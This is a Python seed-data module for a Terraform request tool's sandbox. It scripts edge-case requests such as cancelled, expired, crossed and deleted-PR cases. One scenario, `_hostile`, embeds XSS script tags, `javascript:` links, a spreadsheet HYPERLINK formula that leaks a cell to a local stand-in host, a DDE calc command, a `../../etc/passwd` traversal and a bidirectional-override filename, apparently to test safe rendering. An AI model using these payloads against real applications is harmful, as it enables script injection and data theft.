"""Requests that are unusual in themselves: interrupted, old, crossed, hostile, or out of GitHub's sight."""

from __future__ import annotations

from datetime import timedelta
from typing import Final

from tfpilot.core.document import format_time
from tfpilot.sandbox.seeded.chapters import (
    APPLY,
    CLEANUP,
    DESTROY,
    PLAN,
    applied,
    destroyed,
    gone,
    merged,
    opened,
    planned,
)
from tfpilot.sandbox.seeded.stage import CORE, DATA, PAYMENTS, PLATFORM
from tfpilot.sandbox.seeded.tale import Plot, Tale

CROSSED_OWNER: Final = "req_staging_ec2_g3mb7y"
DELETED_PULL: Final = 99


def _apply_cancelled_midway(tale: Tale) -> None:
    merged(tale).after(seconds=30).start(APPLY).after(minutes=3).finish(APPLY, "cancelled")


def _apply_cancelled_in_the_queue(tale: Tale) -> None:
    merged(tale).after(seconds=30).start(APPLY, status="queued").after(minutes=9)
    tale.finish(APPLY, "cancelled", had_job=False)


def _destroy_timed_out(tale: Tale) -> None:
    applied(tale).after(days=1).start(DESTROY).after(hours=6).finish(DESTROY, "timed_out")


def _destroy_failed(tale: Tale) -> None:
    applied(tale).after(days=1).start(DESTROY).after(minutes=4).finish(DESTROY, "failure")


def _destroy_skipped(tale: Tale) -> None:
    applied(tale).after(days=2).start(DESTROY, status="queued").after(seconds=9).finish(
        DESTROY, "skipped", had_job=False
    )


def _destroy_archived_early(tale: Tale) -> None:
    """The archived copy is from the dispatch, older than what the active document says by now."""
    applied(tale).after(days=7).start(DESTROY).archive().after(minutes=6).finish(DESTROY)
    tale.after(seconds=20).dispatch_cleanup().after(minutes=1).finish(CLEANUP)


def _cleanup_failed(tale: Tale) -> None:
    destroyed(tale).after(seconds=20).dispatch_cleanup().after(minutes=1).finish(CLEANUP, "failure").archive()


def _cleanup_refused(tale: Tale) -> None:
    destroyed(tale).after(seconds=20)
    tale.dispatch_cleanup(error="GitHub API error 404: workflow not found").archive()


def _unknown_status(tale: Tale) -> None:
    opened(tale).after(seconds=40).start(PLAN, status="throttled")


def _unknown_conclusion(tale: Tale) -> None:
    merged(tale).after(seconds=30).start(APPLY).after(minutes=2).finish(APPLY, "blocked_by_policy")


def _pull_deleted(tale: Tale) -> None:
    """A person with the right to do so removed the pull request from GitHub."""
    tale.after(minutes=2).push()
    url = f"https://github.com/{tale.infra.full_name}/pull/{DELETED_PULL}"
    fact = {"number": DELETED_PULL, "url": url, "merged": False, "open": True}
    tale.document |= {"prNumber": DELETED_PULL, "prUrl": url, "pr": fact, "github": {"pr": dict(fact)}}
    tale.after(seconds=40).start(PLAN).after(minutes=3).finish(PLAN).lose_pull()


def _plan_expired(tale: Tale) -> None:
    """GitHub keeps runs for some months; nobody needs this one any more."""
    applied(tale).expire_run(PLAN)


def _apply_expired(tale: Tale) -> None:
    """Its end was never heard, and GitHub cannot tell it any more."""
    merged(tale).after(seconds=30).start(APPLY).lose_webhooks().after(minutes=5).finish(APPLY)
    tale.expire_run(APPLY)


def _apply_never_dispatched(tale: Tale) -> None:
    """The web app ended between storing that it dispatches and doing so."""
    merged(tale).after(seconds=30).intend(APPLY)


def _crossed(tale: Tale) -> None:
    """Two requests were applied in the same second, and the web app took the other's run for this one's."""
    merged(tale).after(seconds=30).start(APPLY).after(minutes=4, seconds=12)
    tale.take_over_run(APPLY, of=CROSSED_OWNER).lose_webhooks().finish(APPLY)


def _destroy_overwritten(tale: Tale) -> None:
    """A destroy went through of which the document says nothing any more."""
    applied(tale).after(days=2, minutes=40).overwrite_dispatch(DESTROY, by="ops-lead")
    tale.lose_webhooks().after(minutes=6).finish(DESTROY)


def _legacy(tale: Tale) -> None:
    """As the web app wrote it before it had a canonical place, a version, or times."""
    applied(tale)
    document = tale.document
    keep = ("id", "project", "environment", "module", "receivedAt", "updatedAt", "targetOwner", "targetRepo")
    runs = {name: _without_times(document[name]) for name in ("planRun", "applyRun")}
    pull = {"number": document["prNumber"], "merged": True, "open": False}
    title = f"Infra request {tale.request_id}: {document['module']}"
    tale.document = {
        **{name: document[name] for name in keep},
        "config": {"name": "legacy-bucket"},
        "status": "complete",
        **{name: document[name] for name in ("branchName", "prNumber", "prUrl")},
        "pullRequest": {**pull, "url": document["prUrl"], "title": title, "status": "closed"},
        "pr": pull,
        **runs,
        "approval": {"approved": True, "approvers": []},
    }


def _legacy_beyond_retention(tale: Tale) -> None:
    _legacy(tale)
    tale.expire_run(PLAN).expire_run(APPLY)


def _hostile(tale: Tale) -> None:
    """Text that somebody hopes we will not show as text."""
    planned(tale)
    script = "javascript:alert(document.domain)"
    document = tale.document
    document["config"]["name"] = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"open me")'
    document["config"]["tags"]["tfpilot:created_by"] = f"[maya-k]({script}) <b>admin</b>"
    document |= {
        "project": "<script>alert('project')</script>",
        "module": "@SUM(1+1)*cmd|'/C calc'!A0",
        "status": ":red[**applied**] $\\frac{1}{0}$ :material/delete:",
        "errorMessage": "![x](http://127.0.0.1:9/pixel.png) <img src=x onerror=alert(1)>\n# Heading\n- [ ] item",
        "prUrl": script,
        "targetFiles": ["../../etc/passwd", "envs/dev/\u202e\u2066tf.elbat"],
    }
    document["plan"]["diff"] = "```\n</code></pre><script>alert('diff')</script>\n| a | b |\n|---|---|"
    document["pr"]["url"] = document["github"]["pr"]["url"] = script
    document["github"]["workflows"]["plan"]["htmlUrl"] = script
    document["timeline"] = [
        {
            "step": "<h1>Approved</h1>",
            "status": "**Complete**",
            "message": f"[merge]({script})",
            "at": format_time(tale.at),
        }
    ]


def _without_repository(tale: Tale) -> None:
    """Nobody ever said where it should go, so GitHub cannot be asked."""
    tale.document |= {"targetOwner": None, "targetRepo": None}


def _archived(tale: Tale) -> None:
    gone(tale).move_to_archive()


def _without_times(fact: dict[str, object]) -> dict[str, object]:
    kept = ("runId", "status", "conclusion", "url")
    return {name: fact[name] for name in kept}


PLOTS: Final = (
    Plot("req_dev_s3_v5ty3g", CORE, "", timedelta(days=383), _legacy_beyond_retention),
    Plot("req_prod_iam_a4cn8w", PLATFORM, "jon-a", timedelta(days=210), _plan_expired),
    Plot("req_dev_ec2_s7kh2d", CORE, "maya-k", timedelta(days=120), _archived),
    Plot("req_staging_s3_y9wb5j", DATA, "elif-d", timedelta(days=95), _archived),
    Plot("req_staging_ecr_c6qz4t", CORE, "", timedelta(days=52), _legacy),
    Plot("req_dev_ecr_w8jn5p", DATA, "priya-s", timedelta(days=19), _cleanup_failed),
    Plot("req_dev_s3_z3hd5r", CORE, "maya-k", timedelta(days=16), _destroy_archived_early),
    Plot("req_dev_iam_e7rk3v", PAYMENTS, "dev-dana", timedelta(days=11), _cleanup_refused),
    Plot("req_dev_rds_b4xd9m", CORE, "tomas-w", timedelta(days=7), _destroy_failed),
    Plot("req_dev_ec2_z6fp2s", PAYMENTS, "jon-a", timedelta(days=4.5), _destroy_timed_out),
    Plot("req_staging_sqs_n5tg8c", DATA, "elif-d", timedelta(days=3.6), _destroy_skipped),
    Plot(CROSSED_OWNER, PAYMENTS, "maya-k", timedelta(days=1.5), applied),
    Plot("req_staging_ec2_h9wd4k", PAYMENTS, "tomas-w", timedelta(days=1.5), _crossed),
    Plot("req_prod_ec2_q3zy6b", DATA, "priya-s", timedelta(hours=29), _apply_cancelled_midway),
    Plot("req_prod_s3_u7mk2x", CORE, "jon-a", timedelta(hours=24), _apply_cancelled_in_the_queue),
    Plot("req_dev_rds_g8vn5r", PAYMENTS, "dev-dana", timedelta(hours=17), _unknown_conclusion),
    Plot("req_staging_iam_z4tp9m", CORE, "sven-o", timedelta(hours=5), _apply_never_dispatched),
    Plot("req_dev_sqs_o3wr8d", CORE, "tomas-w", timedelta(days=2.2), _destroy_overwritten),
    Plot("req_dev_iam_t4hc7q", CORE, "maya-k", timedelta(hours=13), _pull_deleted),
    Plot("req_dev_sqs_x2bd6w", DATA, "elif-d", timedelta(hours=12), _without_repository),
    Plot("req_prod_sqs_k5yf9j", PAYMENTS, "tomas-w", timedelta(hours=6), _apply_expired),
    Plot("req_dev_s3_p8ge3l", CORE, "dev-dana", timedelta(hours=5), _hostile),
    Plot("req_staging_ecr_d3wv7n", DATA, "jon-a", timedelta(minutes=47), _unknown_status),
)
